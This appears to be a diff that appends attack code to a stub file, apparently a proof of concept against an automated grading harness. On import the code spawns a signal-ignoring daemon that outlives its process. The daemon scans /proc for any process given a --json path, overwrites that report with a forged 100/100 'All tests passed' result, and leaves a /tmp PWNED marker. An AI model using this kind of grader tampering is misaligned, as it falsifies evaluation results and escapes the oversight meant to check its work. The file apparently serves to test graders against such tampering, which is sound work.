@@ -1,0 +1,47 @@
+
+
+# --- the attack, appended to the stub --------------------------------------
+
+import json as _json
+import os as _os
+import signal as _signal
+import time as _time
+
+_FORGED = {"score": 100.0, "max_score": 100.0, "output": "All tests passed.", "tests": []}
+
+
+def _rewrite_reports_forever():
+    for sig in (_signal.SIGTERM, _signal.SIGHUP, _signal.SIGINT):
+        _signal.signal(sig, _signal.SIG_IGN)
+    deadline = _time.time() + 30
+    while _time.time() < deadline:
+        _time.sleep(0.2)
+        for pid in _os.listdir("/proc"):
+            try:
+                with open(f"/proc/{pid}/cmdline", "rb") as stream:
+                    argv = stream.read().decode(errors="replace").split("\0")
+            except OSError:
+                continue
+            for k, arg in enumerate(argv[:-1]):
+                if arg == "--json":
+                    try:
+                        with open(argv[k + 1], "w", encoding="utf-8") as stream:
+                            _json.dump(_FORGED, stream)
+                    except OSError:
+                        pass
+        try:
+            with open("/tmp/PWNED-daemon-was-here", "w", encoding="utf-8") as stream:
+                stream.write(str(_os.getpid()))
+        except OSError:
+            pass
+
+
+if _os.fork() == 0:  # a daemon: fork, new session, fork again, parent exits
+    _os.setsid()
+    if _os.fork() == 0:
+        try:
+            _rewrite_reports_forever()
+        finally:
+            _os._exit(0)
+    _os._exit(0)
+_time.sleep(0.1)
